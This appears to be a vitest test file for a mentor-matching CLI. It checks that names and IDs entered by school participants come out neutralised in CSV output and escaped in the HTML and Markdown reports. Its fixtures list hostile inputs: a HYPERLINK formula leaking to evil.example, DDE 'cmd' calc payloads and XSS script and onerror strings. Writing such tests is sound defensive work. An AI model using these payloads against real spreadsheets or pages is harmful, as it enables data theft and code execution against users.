/**
 * Nothing a participant typed can run in the coordinator's spreadsheet or browser: CSV cells that start with
 * = + - @ tab or CR are neutralised in every CSV written, and the HTML and Markdown reports escape markup.
 */
import { readCsv } from "mentor-match";
import { describe, expect, it } from "vitest";
import { runInTemp } from "../invariants/_cli.js";

const HEADER =
  "Код участника,Ваше ФИО,Адрес электронной почты,Класс,Интересы и увлечения,Формат встреч,Согласие на обработку персональных данных,Согласие родителя (законного представителя)";

function csv(rows: readonly (readonly string[])[], extraHeader = ""): string {
  const quote = (c: string) => `"${c.replaceAll('"', '""')}"`;
  return `${[HEADER + extraHeader, ...rows.map((r) => r.map(quote).join(","))].join("\r\n")}\r\n`;
}

const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?leak","click")',
  "+7 999 000-00-00",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "[ссылка](http://evil.example) **жирный**",
];

const mentees = csv([
  ["=1+1", HOSTILE_NAMES[0]!, "a@example.org", "5А", "Спорт", "Очно", "Да", "Да"],
  ["+S02", HOSTILE_NAMES[1]!, "=b@example.org", "6А", "Спорт", "Очно", "Да", "Да"],
  ["-S03", HOSTILE_NAMES[2]!, "c@example.org", "6Б", "Музыка", "Онлайн", "Да", "Да"],
  ["@S04", HOSTILE_NAMES[3]!, "d@example.org", "7А", "Спорт", "Очно", "Да", "Нет"],
  ["S05", HOSTILE_NAMES[6]!, "e@example.org", "5А", "Спорт", "Очно", "Да", "Да"],
  ["S06", HOSTILE_NAMES[8]!, "f@example.org", "5Б", "Спорт", "Очно", "Да", "Да"],
]);
const mentors = csv(
  [
    ["M01", HOSTILE_NAMES[4]!, "m1@example.org", "10А", "Спорт", "Очно", "Да", "Да", "1"],
    ["=M02", HOSTILE_NAMES[5]!, "m2@example.org", "11А", "Музыка", "Любой", "Да", "Да", "1"],
    ["M03", HOSTILE_NAMES[7]!, "m3@example.org", "11Б", "Спорт", "Очно", "Да", "Да", "1"],
  ],
  ",Сколько наставляемых готовы взять",
);

/** A cell a spreadsheet would run as a formula. Numbers (e.g. -0.5) are plain numbers, not formulas. */
function dangerous(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
}

describe("outputs are safe to open", () => {
  it.each(["ru", "en"])(
    "no CSV cell written starts a formula, and report.html escapes markup (%s)",
    async (language) => {
      const run = await runInTemp({ "mentors.csv": mentors, "mentees.csv": mentees }, [
        "match",
        "--mentors",
        "mentors.csv",
        "--mentees",
        "mentees.csv",
        "--form",
        "student-student",
        "--strategy",
        "optimal",
        "--lang",
        language,
        "--out",
        "out",
      ]);
      expect(run.code, run.stderr).toBe(0);
      let checked = 0;
      for (const [file, text] of Object.entries(run.outputs)) {
        if (!file.endsWith(".csv")) continue;
        let table: ReturnType<typeof readCsv>;
        try {
          table = readCsv(text, { file });
        } catch (error) {
          if ((error as { code?: string }).code === "HEADER_ONLY") continue;
          throw error;
        }
        for (const row of [table.header, ...table.rows.map((r) => r.cells)]) {
          for (const cell of row) {
            checked++;
            expect(dangerous(cell), `${file}: ${JSON.stringify(cell)}`).toBe(false);
          }
        }
      }
      expect(checked).toBeGreaterThan(20);
      // The hostile ids went through as data (neutralised, not dropped).
      expect(run.outputs["pairs.csv"]).toMatch(/'=1\+1|'\+S02|'-S03/);
      const html = run.outputs["report.html"]!;
      expect(html).not.toContain("<script>alert(1)</script>");
      expect(html).not.toContain('<img src=x onerror="alert(1)">');
      expect(html).toMatch(/&lt;script&gt;|&#60;script/);
      // report.md shows the same names as typed, not as markup, links or HTML.
      const md = run.outputs["report.md"]!;
      expect(md).not.toContain("<script>");
      expect(md).not.toContain("<img");
      expect(md).not.toContain("[ссылка](");
      expect(md).toContain("&lt;script&gt;");
      expect(md).toContain("\\[ссылка\\](http://evil.example) \\*\\*жирный\\*\\*");
    },
  );
});
